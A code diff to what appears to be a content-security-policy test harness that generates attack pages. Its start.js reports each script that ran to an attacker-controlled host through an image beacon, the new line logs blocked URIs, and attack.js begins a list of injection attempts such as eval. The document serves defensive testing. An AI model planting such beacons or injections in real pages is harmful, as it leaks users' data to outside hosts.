@@ -26,8 +26,9 @@ export const attackPages = (attacker: string): Record<string, string> => ({
 <script type="module" src="./attack.js"></script>
 </body></html>`,
   // Code that ran is remembered, and told to the attacker: the page may be led away before it is asked.
-  'start.js': `globalThis.taken = { finished: false, ran: [] };
-globalThis.ran = (name) => { taken.ran.push(name); new Image().src = '${attacker}/ran/' + name; };`,
+  'start.js': `globalThis.taken = { finished: false, ran: [], stopped: [] };
+globalThis.ran = (name) => { taken.ran.push(name); new Image().src = '${attacker}/ran/' + name; };
+addEventListener('securitypolicyviolation', (event) => taken.stopped.push(event.blockedURI));`,
   'attack.js': `
 const tries = {
   eval: () => eval("ran('eval')"),
